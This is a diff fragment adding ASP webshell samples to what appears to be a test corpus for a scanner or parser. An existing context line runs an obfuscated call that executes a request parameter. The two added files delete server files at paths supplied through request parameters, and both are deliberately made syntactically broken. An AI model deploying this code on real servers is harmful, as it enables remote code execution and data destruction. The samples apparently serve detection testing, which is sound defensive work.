@@ -1141,5 +1141,30 @@ Function D(t)
 End Function
 Execute D("Fydvuf!Sfrvftu)#r#*")
 %>
+==== vb-class-not-ended.asp
+<%
+Class View
+  Private mFso, mRoot
+  Private Sub Class_Initialize()
+    Dim 1broken
+    Set mFso = Server.CreateObject("Scripting.FileSystemObject")
+    mRoot = Request("root")
+  End Sub
+  Public Sub RemoveTicked()
+    Dim item
+    For Each item In Request.Form("tick")
+      mFso.DeleteFile mRoot & "\" & item, True
+    Next
+  End Sub
+
+Dim v
+Set v = New View
+v.RemoveTicked
+%>
+==== vb-folder-and-name.asp
+<% Dim 1broken
+Set fso = Server.CreateObject("Scripting.FileSystemObject")
+fso.DeleteFile Request("d") & "\" & Request("f")
+%>
 """
 )
